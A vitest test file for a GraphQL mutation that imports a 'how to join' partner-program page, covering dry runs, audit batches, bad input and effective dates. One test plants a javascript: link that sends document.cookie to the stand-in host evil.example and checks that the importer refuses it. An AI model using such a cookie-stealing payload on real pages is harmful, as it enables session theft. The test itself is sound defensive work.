import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { watchAuditTrail } from '../../test/audit-trail.js';
import { importSeed, seedPage } from '../../test/seed-catalog.js';
import { startTestServer, type TestClient, type TestServer } from '../../test/test-server.js';

const IMPORT = `mutation ($markdown: String!, $dryRun: Boolean!) {
  importHowToJoinPage(markdown: $markdown, dryRun: $dryRun) {
    dryRun batchId changes { kind summary } programCount categoryCount labCount
  }
}`;

interface ImportAnswer {
  importHowToJoinPage: {
    dryRun: boolean;
    batchId: string | null;
    changes: Array<{ kind: string; summary: string }>;
    programCount: number;
    categoryCount: number;
    labCount: number;
  };
}

/** The seed page with SBC seeking partners. */
const editedPage = seedPage.replace(
  '<td>SBC</td>\n\t\t\t<td style="text-align:center" valign="middle">Not seeking partners</td>',
  '<td>SBC</td>\n\t\t\t<td style="text-align:center" valign="middle">Seeking partners</td>',
);

describe('importHowToJoinPage', () => {
  let server: TestServer;
  let editor: TestClient & { email: string };
  beforeAll(async () => {
    server = await startTestServer((db) => importSeed(db.dataSource));
    editor = await server.signIn('EDITOR');
  });
  afterAll(() => server.close());

  it('answers what a new version of the page would change, writing nothing in a dry run', async () => {
    expect(editedPage).not.toBe(seedPage);
    const watch = await watchAuditTrail(server.db.dataSource);
    const { body } = await editor.graphql<ImportAnswer>(IMPORT, { markdown: editedPage, dryRun: true });
    expect(body.errors).toBeUndefined();
    expect(body.data?.importHowToJoinPage).toEqual({
      dryRun: true,
      batchId: null,
      changes: [{ kind: 'admission-status-changed', summary: expect.stringContaining('SBC') }],
      programCount: 16,
      categoryCount: 6,
      labCount: expect.any(Number),
    });
    expect(await watch()).toEqual([]);
  });

  it('applies it in one audit batch in the name of the staff member', async () => {
    const watch = await watchAuditTrail(server.db.dataSource);
    const { body } = await editor.graphql<ImportAnswer>(IMPORT, { markdown: editedPage, dryRun: false });
    const result = body.data?.importHowToJoinPage;
    expect(result?.batchId).toEqual(expect.any(String));
    const events = await watch();
    expect(events).toEqual([
      expect.objectContaining({
        batchId: result?.batchId,
        actor: editor.email,
        actorId: expect.any(Number),
        requestId: expect.any(String),
        action: 'admission-status-changed',
      }),
    ]);
    const again = await editor.graphql<ImportAnswer>(IMPORT, { markdown: editedPage, dryRun: true });
    expect(again.body.data?.importHowToJoinPage.changes).toEqual([]);
  });

  it('refuses a page it cannot read with the row and cell at fault, and an empty one', async () => {
    const broken = seedPage.replace('valign="middle">Not seeking partners</td>', 'valign="middle">Maybe later</td>');
    const { body } = await editor.graphql(IMPORT, { markdown: broken, dryRun: true });
    expect(body.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      field: 'markdown',
      section: 'table',
      row: expect.any(Number),
      cell: expect.any(String),
    });
    expect(body.errors?.[0]?.message).toMatch(/^Row \d+/);
    const empty = await editor.graphql(IMPORT, { markdown: '  ', dryRun: true });
    expect(empty.body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'markdown' });
  });

  it('refuses a link that is not http, https or mailto, naming the row and cell, and writes nothing', async () => {
    const hostile = seedPage.replace(
      '<a href="http://www.tekvizion.com/premier-tenants/microsoft">Tekvizion</a>',
      '<a href="javascript:fetch(\'//evil.example/\'+document.cookie)">Tekvizion</a>',
    );
    expect(hostile).not.toBe(seedPage);
    const watch = await watchAuditTrail(server.db.dataSource);
    const { body } = await editor.graphql(IMPORT, { markdown: hostile, dryRun: false });
    expect(body.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      field: 'markdown',
      section: 'table',
      row: expect.any(Number),
      cell: 'Certification Labs',
      programName: expect.any(String),
    });
    expect(body.errors?.[0]?.message).toMatch(
      /^Row \d+ \(.+\), cell "Certification Labs": the link "Tekvizion" goes to "javascript:/,
    );
    expect(await watch()).toEqual([]);
  });
});

describe('importHowToJoinPage with effectiveAt, as the CLI with --effective', () => {
  const DATED_IMPORT = `mutation ($markdown: String!, $dryRun: Boolean!, $effectiveAt: String) {
    importHowToJoinPage(markdown: $markdown, dryRun: $dryRun, effectiveAt: $effectiveAt) { batchId effectiveAt changes { kind } }
  }`;
  const PROGRAM = `query ($slug: String!) { program(slug: $slug) { admissionStatus statusChangedAt } }`;
  let server: TestServer;
  let editor: TestClient & { email: string };
  beforeAll(async () => {
    server = await startTestServer((db) => importSeed(db.dataSource));
    editor = await server.signIn('EDITOR');
  });
  afterAll(() => server.close());

  const datedImport = (markdown: string, effectiveAt: string | null, dryRun = false) =>
    editor.graphql<{ importHowToJoinPage: { batchId: string | null; effectiveAt: string; changes: Array<{ kind: string }> } }>(
      DATED_IMPORT,
      { markdown, dryRun, effectiveAt },
    );

  it('dates the changes at the moment given, and answers when they count as made without one', async () => {
    // The seed page has no date of its own: it was imported as of the moment the server started.
    const before = Date.now();
    const preview = await datedImport(seedPage, null, true);
    expect(preview.body.errors).toBeUndefined();
    const undated = Date.parse(preview.body.data?.importHowToJoinPage.effectiveAt ?? '');
    expect(undated).toBeGreaterThanOrEqual(before);
    expect(undated).toBeLessThanOrEqual(Date.now());

    const moment = new Date().toISOString();
    const { body } = await datedImport(editedPage, moment);
    expect(body.errors).toBeUndefined();
    expect(body.data?.importHowToJoinPage).toMatchObject({ effectiveAt: moment, batchId: expect.any(String) });
    const sbc = await server.graphql<{ program: { admissionStatus: string; statusChangedAt: string } }>(PROGRAM, {
      slug: 'sbc',
    });
    expect(sbc.body.data?.program).toEqual({ admissionStatus: 'SEEKING_PARTNERS', statusChangedAt: moment });
  });

  it('refuses a date it cannot read, one in the future and one before recorded changes, on effectiveAt, writing nothing', async () => {
    const pcsSeeking = editedPage.replace(
      /(<td>PCs<\/td>\s*<td[^>]*>)[^<]*(<\/td>)/,
      (_match, start: string, end: string) => `${start}Seeking partners${end}`,
    );
    expect(pcsSeeking).not.toBe(editedPage);
    const watch = await watchAuditTrail(server.db.dataSource);
    for (const [effectiveAt, message] of [
      ['2018-02-30', /must be a date such as 2018-06-13/],
      ['next week', /must be a date such as 2018-06-13/],
      ['2999-01-01', /in the future/],
      ['2020-06-01T12:00:00Z', /before changes already recorded/],
      ['2018-06-13', /before changes already recorded/],
    ] as const) {
      const { body } = await datedImport(pcsSeeking, effectiveAt);
      expect(body.data).toBeNull();
      expect(body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'effectiveAt' });
      expect(body.errors?.[0]?.message).toMatch(message);
    }
    expect(await watch()).toEqual([]);
    // A timestamp with another zone is the same moment.
    const now = new Date();
    const atPlusOne = `${new Date(now.getTime() + 3_600_000).toISOString().slice(0, 23)}+01:00`;
    const later = await datedImport(pcsSeeking, atPlusOne);
    expect(later.body.data?.importHowToJoinPage).toMatchObject({
      effectiveAt: now.toISOString(),
      changes: [{ kind: 'admission-status-changed' }],
    });
  });
});
